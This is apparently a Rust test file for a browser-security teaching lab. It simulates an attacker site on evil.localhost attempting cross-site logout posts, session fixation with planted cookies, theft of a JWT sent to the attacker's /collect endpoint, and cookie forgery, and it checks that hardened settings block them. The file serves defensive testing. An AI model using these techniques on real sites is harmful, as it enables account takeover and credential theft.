//! The attacker's pages, without a browser: what they give away, whom they obey, and that a browser
//! which holds nothing back would be seen to do so.

use lab::Profile;
use lab::column::Column;
use serde_json::{Value, json};

use crate::Running;
use crate::client::{Answer, Visitor};

const EVIL: [&str; 2] = ["evil.localhost", "evil.lab.localhost"];

fn begin(visitor: &Visitor, port: u16, lure: &str, column: &str) -> Answer {
    let fields = format!(
        "Origin: http://lab.localhost:{port}\r\nX-Lab-Token: {}\r\n",
        visitor.token()
    );
    let order = json!({ "lure": lure, "column": column }).to_string();
    visitor.send("lab.localhost", "POST /__lab/lure", &fields, &order)
}

/// The name of a new attempt.
fn attempt(visitor: &Visitor, port: u16, lure: &str, column: &str) -> String {
    let begun = begin(visitor, port, lure, column);
    assert_eq!(begun.status, 200, "{}", begun.body);
    begun.json()["attempt"].as_str().unwrap().to_owned()
}

fn outcome(visitor: &Visitor, attempt: &str) -> Value {
    let line = format!("GET /__lab/lure?attempt={attempt}");
    let answer = visitor.send("lab.localhost", &line, "", "");
    assert_eq!(answer.status, 200, "nothing came of it");
    answer.json()
}

fn why(visitor: &Visitor, attempt: &str) -> (Value, Value) {
    let lured = outcome(visitor, attempt);
    (lured["word"].clone(), lured["why"].clone())
}

/// A page of the attacker's posts a form, and the browser sends these fields along.
fn post(visitor: &Visitor, attempt: &str, fields: &str) -> u16 {
    let fields = format!("Sec-Fetch-Site: cross-site\r\nSec-Fetch-Mode: navigate\r\n{fields}");
    let line = format!("POST /logout?attempt={attempt}");
    visitor
        .send("cookie.lab.localhost", &line, &fields, "prize=1")
        .status
}

fn cookie(visitor: &Visitor) -> String {
    let item = &visitor.view()["columns"][0]["browser"]["items"][0];
    let (name, value) = (&item["name"], &item["value"]);
    format!("{}={}", name.as_str().unwrap(), value.as_str().unwrap())
}

#[test]
fn without_an_attempt_there_is_nothing() {
    let lab = Running::embedded(Profile::Hardened);
    let visitor = Visitor::new(lab.port);
    let token = format!("X-Lab-Token: {}\r\n", visitor.token());
    for host in EVIL {
        let own = format!("Origin: http://{host}:{}\r\n{token}", lab.port);
        for line in [
            "GET /?attempt=x",
            "GET /main.js",
            "GET /column.js",
            "GET /index.html",
            "GET /lure.html",
            "GET /__lab/view",
            "GET /__lab/export?column=jwt&format=har",
            "GET /__lab/lure?attempt=x",
            "GET /__lab/hole?attempt=x",
            "POST /collect?attempt=x",
            "POST /__lab/control",
            "POST /__lab/lure",
            "POST /__lab/forget",
        ] {
            let answer = visitor.send(host, line, &own, "{}");
            assert_eq!(answer.status, 404, "{host} {line}");
            assert!(!answer.body.contains(visitor.token()), "{host} {line}");
        }
        assert_eq!(visitor.send(host, "GET /", "", "").status, 400);
        assert_eq!(visitor.send(host, "GET /lure.js", "", "").status, 200);
    }
    let hole = visitor.send("jwt.lab.localhost", "GET /__lab/hole?attempt=x", "", "");
    assert_eq!(hole.status, 404);
}

#[test]
fn only_the_page_begins_one() {
    let lab = Running::embedded(Profile::Hardened);
    let visitor = Visitor::new(lab.port);
    let order = json!({ "lure": "form-elsewhere", "column": "cookie" }).to_string();
    let own = format!("Origin: http://lab.localhost:{}\r\n", lab.port);
    for fields in ["", own.as_str()] {
        let refused = visitor.send("lab.localhost", "POST /__lab/lure", fields, &order);
        assert_eq!(refused.status, 403);
    }
    assert_eq!(begin(&visitor, lab.port, "none", "cookie").status, 404);
    assert_eq!(begin(&visitor, lab.port, "toss", "jwt").status, 404);
}

#[test]
fn each_page_is_on_its_own_host_alone_and_reaches_one_server() {
    let lab = Running::embedded(Profile::Hardened);
    let visitor = Visitor::new(lab.port);
    let get = |host: &str, path: &str, attempt: &str| {
        visitor.send(host, &format!("GET {path}?attempt={attempt}"), "", "")
    };
    let form = attempt(&visitor, lab.port, "form-sibling", "session");
    let page = get(EVIL[1], "/", &form);
    let policy = page.header("content-security-policy").unwrap();
    let target = format!("form-action http://session.lab.localhost:{};", lab.port);
    assert!(policy.contains(&target), "{policy}");
    assert!(policy.contains("default-src 'none'; script-src 'self'"));
    assert!(policy.contains("frame-ancestors 'none'"));
    assert!(!page.body.contains(visitor.token()));
    assert_eq!(get(EVIL[0], "/", &form).status, 404);
    assert_eq!(
        get("session.lab.localhost", "/__lab/hole", &form).status,
        404
    );

    let script = attempt(&visitor, lab.port, "script-read", "jwt");
    let hole = get("jwt.lab.localhost", "/__lab/hole", &script);
    let policy = hole.header("content-security-policy").unwrap();
    let source = format!("script-src http://evil.localhost:{};", lab.port);
    assert!(policy.contains(&source), "{policy}");
    assert!(!hole.body.contains(visitor.token()));
    assert_eq!(
        get("cookie.lab.localhost", "/__lab/hole", &script).status,
        404
    );
    assert_eq!(get(EVIL[0], "/", &script).status, 404);
}

/// The verdict is of the wire: a browser that sends the cookie is seen to send it.
#[test]
fn what_went_along_decides() {
    let lab = Running::embedded(Profile::Hardened);
    let mut visitor = Visitor::new(lab.port);
    visitor.log_in("alice", "wonderland");
    let origin = format!("Origin: http://evil.localhost:{}\r\n", lab.port);
    let kept_back = attempt(&visitor, lab.port, "form-elsewhere", "cookie");
    assert_eq!(post(&visitor, &kept_back, &origin), 403);
    let seen = why(&visitor, &kept_back);
    assert_eq!(seen, (json!("BLOCKED BY BROWSER"), json!("held-back")));

    let carried = attempt(&visitor, lab.port, "form-elsewhere", "cookie");
    let with_cookie = format!("{origin}Cookie: {}\r\n", cookie(&visitor));
    assert_eq!(post(&visitor, &carried, &with_cookie), 403);
    assert_eq!(why(&visitor, &carried), (json!("DENIED"), json!("refused")));
    let verdict = &visitor.view()["columns"][0]["verdict"];
    assert_eq!(
        (&verdict["action"], &verdict["word"]),
        (&json!("foreign"), &json!("DENIED"))
    );
    // A stranger's request says nothing of the visitor's login.
    assert_eq!(visitor.view()["columns"][0]["logged_in_as"], "alice");

    // Of an attempt, only its own requests count; and the credential is not in the evidence.
    let shown = outcome(&visitor, &carried).to_string();
    assert_eq!(shown.matches("POST /logout").count(), 1, "{shown}");
    let secret = cookie(&visitor);
    assert!(
        !shown.contains(secret.split_once('=').unwrap().1),
        "{shown}"
    );
}

/// A browser that would take the planted cookie: the visitor works in the attacker's account.
#[test]
fn a_planted_login_that_is_taken_is_seen() {
    let lab = Running::embedded(Profile::Hardened);
    let visitor = Visitor::new(lab.port);
    for (takes, why_so) in [(true, "planted"), (false, "prefix")] {
        let id = attempt(&visitor, lab.port, "fixate", "session");
        let page = visitor.send(EVIL[1], &format!("GET /?attempt={id}"), "", "");
        let lines: Vec<&str> = page
            .head
            .lines()
            .filter_map(|line| line.split_once(": "))
            .filter(|(name, _)| name.eq_ignore_ascii_case("set-cookie"))
            .map(|(_, value)| value)
            .collect();
        assert!(
            lines
                .iter()
                .all(|line| line.contains("Domain=lab.localhost"))
        );
        let taken = lines.iter().take(if takes { 2 } else { 1 });
        let taken: Vec<&str> = taken.filter_map(|line| line.split(';').next()).collect();
        let fields = format!(
            "Sec-Fetch-Site: same-site\r\nCookie: {}\r\n",
            taken.join("; ")
        );
        let me = visitor.send(
            "session.lab.localhost",
            &format!("GET /me?attempt={id}"),
            &fields,
            "",
        );
        assert_eq!(me.body.contains("\"bob\""), takes, "{}", me.body);
        visitor.send(EVIL[1], &format!("POST /collect?attempt={id}"), "", "{}");
        assert_eq!(why(&visitor, &id).1, why_so);
        // The attempt is over, and so is the attacker's own login: it takes no room in the store.
        let after = visitor.send("session.lab.localhost", "GET /me", &fields, "");
        assert_eq!(after.status, 401, "{}", after.body);
        // Nobody logged in here: the visitor is whom he was.
        assert_eq!(visitor.view()["columns"][1]["logged_in_as"], Value::Null);
    }
}

#[test]
fn what_script_sends_home_is_named_bounded_and_told_from_anything_else() {
    let lab = Running::embedded(Profile::Hardened);
    let mut visitor = Visitor::new(lab.port);
    visitor.log_in("alice", "wonderland");
    let access = visitor.view()["columns"][2]["wire"]["exchanges"][0]["response_body"].clone();
    let access: Value = serde_json::from_str(access.as_str().unwrap()).unwrap();
    let access = access["access"].as_str().unwrap().to_owned();
    let send = |id: &str, value: &str| {
        let report = json!({ "items": [{ "name": "access", "value": value }] }).to_string();
        visitor.send(EVIL[0], &format!("POST /collect?attempt={id}"), "", &report)
    };
    for (value, expected) in [(access.as_str(), "read"), ("something else", "nobody")] {
        let id = attempt(&visitor, lab.port, "script-read", "jwt");
        assert_eq!(send(&id, &"x".repeat(100_000)).status, 413);
        assert_eq!(send(&id, value).status, 204);
        let lured = outcome(&visitor, &id);
        assert_eq!(lured["why"], expected);
        assert_eq!(lured["received"][0]["bytes"], value.len());
        assert!(!lured.to_string().contains(&access));
    }
}

/// What is changed in a copy is refused; and where a cookie has no seal, whoever writes `admin`
/// into it is one.
#[test]
fn a_forgery_is_refused_unless_nothing_protects_the_cookie() {
    for (lab, word) in [
        (Running::embedded(Profile::Hardened), "DENIED"),
        (Running::in_variants(&[(Column::Cookie, "plain")]), "FORGED"),
    ] {
        let mut visitor = Visitor::new(lab.port);
        visitor.log_in("alice", "wonderland");
        let forge = json!({ "action": "forge" });
        assert_eq!(visitor.order(&forge).status, 200);
        let view = visitor.view();
        for (index, expected) in [word, "DENIED", "DENIED"].into_iter().enumerate() {
            let verdict = &view["columns"][index]["verdict"];
            let said = (&verdict["action"], &verdict["word"]);
            assert_eq!(said, (&json!("forge"), &json!(expected)), "{index}");
        }
        assert_eq!(
            visitor.ask_all("GET /me", ""),
            [200; 3],
            "the originals work"
        );
    }
}
